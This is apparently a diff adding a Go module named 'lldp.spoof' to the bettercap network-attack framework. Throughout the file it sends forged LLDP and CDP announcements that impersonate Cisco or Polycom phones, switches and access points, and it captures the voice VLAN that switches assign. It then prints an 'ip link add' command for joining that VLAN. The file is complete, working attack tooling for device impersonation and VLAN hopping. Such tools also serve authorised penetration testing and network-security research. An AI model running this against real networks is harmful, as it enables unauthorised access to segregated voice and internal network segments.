@@ -0,0 +1,321 @@
+package lldp_spoof
+
+import (
+	"bytes"
+	"fmt"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const discoveryFilter = "ether proto 0x88cc or ether dst 01:00:0c:cc:cc:cc"
+
+type VLANEvent struct {
+	Protocol string
+	Device   string
+	Port     string
+	VLAN     uint16
+}
+
+type LLDPSpoofer struct {
+	session.SessionModule
+	handle    *pcap.Handle
+	identity  *packets.DiscoveryIdentity
+	lldp      bool
+	cdp       bool
+	interval  time.Duration
+	vlans     map[string]uint16
+	waitGroup *sync.WaitGroup
+}
+
+func NewLLDPSpoofer(s *session.Session) *LLDPSpoofer {
+	mod := &LLDPSpoofer{
+		SessionModule: session.NewSessionModule("lldp.spoof", s),
+		vlans:         make(map[string]uint16),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("lldp.spoof.template",
+		"cisco-phone",
+		"^(cisco-phone|polycom-phone|cisco-switch|cisco-router|access-point)$",
+		"Identity to announce, one of cisco-phone, polycom-phone, cisco-switch, cisco-router or access-point."))
+
+	mod.AddParam(session.NewStringParameter("lldp.spoof.protocols",
+		"lldp,cdp",
+		`^(lldp|cdp)(,(lldp|cdp))?$`,
+		"Comma separated list of protocols to send the announcements with."))
+
+	mod.AddParam(session.NewStringParameter("lldp.spoof.name",
+		"",
+		"",
+		"If not empty, override the device name of the template."))
+
+	mod.AddParam(session.NewStringParameter("lldp.spoof.platform",
+		"",
+		"",
+		"If not empty, override the platform and system description of the template."))
+
+	mod.AddParam(session.NewStringParameter("lldp.spoof.port",
+		"",
+		"",
+		"If not empty, override the port name of the template."))
+
+	mod.AddParam(session.NewIntParameter("lldp.spoof.native.vlan",
+		"0",
+		"If not zero, advertise this native VLAN."))
+
+	mod.AddParam(session.NewIntParameter("lldp.spoof.voice.vlan",
+		"0",
+		"If not zero and the template is not a phone, advertise this voice VLAN to the phones on the segment."))
+
+	mod.AddParam(session.NewIntParameter("lldp.spoof.interval",
+		"30",
+		"Seconds between announcements."))
+
+	mod.AddHandler(session.NewModuleHandler("lldp.spoof on", "",
+		"Start sending the LLDP/CDP announcements and listening for the VLAN assignments of the switches.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("lldp.spoof off", "",
+		"Stop sending the LLDP/CDP announcements.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("lldp.spoof.templates", "",
+		"Show the available identity templates.",
+		func(args []string) error {
+			return mod.showTemplates()
+		}))
+
+	return mod
+}
+
+func (mod LLDPSpoofer) Name() string {
+	return "lldp.spoof"
+}
+
+func (mod LLDPSpoofer) Description() string {
+	return "Send spoofed LLDP and CDP announcements to impersonate phones, switches or access points and discover voice VLANs."
+}
+
+func (mod LLDPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *LLDPSpoofer) showTemplates() error {
+	names := []string{}
+	for name := range templates {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	hw := mod.Session.Interface.HwAddress
+	rows := [][]string{}
+	for _, name := range names {
+		id := templates[name].Identity(hw)
+		rows = append(rows, []string{tui.Bold(name), id.Name, id.Platform, id.Port})
+	}
+
+	tui.Table(mod.Session.Events.Stdout, []string{"Template", "Name", "Platform", "Port"}, rows)
+	mod.Session.Refresh()
+
+	return nil
+}
+
+// zero means no VLAN, 4095 is reserved
+func validVLAN(id int) bool {
+	return id == 0 || (id >= 1 && id <= 4094)
+}
+
+func (mod *LLDPSpoofer) Configure() error {
+	var err error
+	var template, name, platform, port string
+	var protocols []string
+	var nativeVLAN, voiceVLAN, interval int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, template = mod.StringParam("lldp.spoof.template"); err != nil {
+		return err
+	} else if err, protocols = mod.ListParam("lldp.spoof.protocols"); err != nil {
+		return err
+	} else if err, name = mod.StringParam("lldp.spoof.name"); err != nil {
+		return err
+	} else if err, platform = mod.StringParam("lldp.spoof.platform"); err != nil {
+		return err
+	} else if err, port = mod.StringParam("lldp.spoof.port"); err != nil {
+		return err
+	} else if err, nativeVLAN = mod.IntParam("lldp.spoof.native.vlan"); err != nil {
+		return err
+	} else if err, voiceVLAN = mod.IntParam("lldp.spoof.voice.vlan"); err != nil {
+		return err
+	} else if err, interval = mod.IntParam("lldp.spoof.interval"); err != nil {
+		return err
+	} else if interval <= 0 {
+		return fmt.Errorf("lldp.spoof.interval must be greater than zero")
+	} else if !validVLAN(nativeVLAN) {
+		return fmt.Errorf("lldp.spoof.native.vlan must be between 1 and 4094, or zero not to advertise it")
+	} else if !validVLAN(voiceVLAN) {
+		return fmt.Errorf("lldp.spoof.voice.vlan must be between 1 and 4094, or zero not to advertise it")
+	}
+
+	mod.identity = templates[template].Identity(mod.Session.Interface.HwAddress)
+	if name != "" {
+		mod.identity.Name = name
+	}
+	if platform != "" {
+		mod.identity.Platform = platform
+		mod.identity.Description = platform
+	}
+	if port != "" {
+		mod.identity.Port = port
+	}
+
+	mod.identity.HW = mod.Session.Interface.HW
+	mod.identity.Address = mod.Session.Interface.IP
+	mod.identity.NativeVLAN = uint16(nativeVLAN)
+	if !mod.identity.VoiceQuery {
+		mod.identity.VoiceVLAN = uint16(voiceVLAN)
+	}
+
+	mod.lldp, mod.cdp = false, false
+	for _, proto := range protocols {
+		switch strings.ToLower(proto) {
+		case "lldp":
+			mod.lldp = true
+		case "cdp":
+			mod.cdp = true
+		}
+	}
+
+	// keep the announcement valid until the next one and a bit more
+	mod.interval = time.Duration(interval) * time.Second
+	if ttl := interval * 4; ttl > 255 {
+		mod.identity.TTL = 255
+	} else {
+		mod.identity.TTL = uint16(ttl)
+	}
+
+	mod.vlans = make(map[string]uint16)
+
+	if mod.handle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = mod.handle.SetBPFFilter(discoveryFilter); err != nil {
+		mod.handle.Close()
+		return err
+	}
+
+	return nil
+}
+
+func (mod *LLDPSpoofer) announce() {
+	if mod.lldp {
+		if err, pkt := packets.NewLLDPAnnouncePacket(mod.identity); err != nil {
+			mod.Error("error creating lldp packet: %v", err)
+		} else if err = mod.Session.Queue.Send(pkt); err != nil {
+			mod.Error("error sending lldp packet: %v", err)
+		}
+	}
+
+	if mod.cdp {
+		if err, pkt := packets.NewCDPAnnouncePacket(mod.identity); err != nil {
+			mod.Error("error creating cdp packet: %v", err)
+		} else if err = mod.Session.Queue.Send(pkt); err != nil {
+			mod.Error("error sending cdp packet: %v", err)
+		}
+	}
+}
+
+func (mod *LLDPSpoofer) onVLAN(proto string, device string, port string, vlan uint16) {
+	key := fmt.Sprintf("%s|%s", proto, device)
+	if prev, found := mod.vlans[key]; found && prev == vlan {
+		return
+	}
+	mod.vlans[key] = vlan
+
+	mod.Info("%s switch %s (%s) assigned voice VLAN %s, create an interface on it with: ip link add link %s name %s.%d type vlan id %d",
+		strings.ToUpper(proto),
+		tui.Bold(device),
+		port,
+		tui.Red(fmt.Sprintf("%d", vlan)),
+		mod.Session.Interface.Name(),
+		mod.Session.Interface.Name(),
+		vlan,
+		vlan)
+
+	mod.Session.Events.Add("lldp.spoof.vlan", VLANEvent{
+		Protocol: proto,
+		Device:   device,
+		Port:     port,
+		VLAN:     vlan,
+	})
+}
+
+func (mod *LLDPSpoofer) onPacket(pkt gopacket.Packet) {
+	eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	if !ok || bytes.Equal(eth.SrcMAC, mod.Session.Interface.HW) {
+		return
+	}
+
+	if info, ok := pkt.Layer(layers.LayerTypeLinkLayerDiscoveryInfo).(*layers.LinkLayerDiscoveryInfo); ok {
+		if vlan, found := packets.LLDPVoiceVLAN(info); found {
+			mod.onVLAN("lldp", info.SysName, info.PortDescription, vlan)
+		}
+	} else if info, ok := pkt.Layer(layers.LayerTypeCiscoDiscoveryInfo).(*layers.CiscoDiscoveryInfo); ok {
+		if vlan, found := packets.CDPVoiceVLAN(info); found {
+			mod.onVLAN("cdp", info.DeviceID, info.PortID, vlan)
+		}
+	}
+}
+
+func (mod *LLDPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("announcing %s (%s) every %s", tui.Bold(mod.identity.Name), mod.identity.Platform, mod.interval)
+
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		go func() {
+			src := gopacket.NewPacketSource(mod.handle, mod.handle.LinkType())
+			for pkt := range src.Packets() {
+				if !mod.Running() {
+					break
+				}
+				mod.onPacket(pkt)
+			}
+		}()
+
+		for mod.Running() {
+			mod.announce()
+
+			// sleep in small steps to stop quickly
+			for slept := time.Duration(0); slept < mod.interval && mod.Running(); slept += time.Second {
+				time.Sleep(time.Second)
+			}
+		}
+	})
+}
+
+func (mod *LLDPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.waitGroup.Wait()
+		mod.handle.Close()
+	})
+}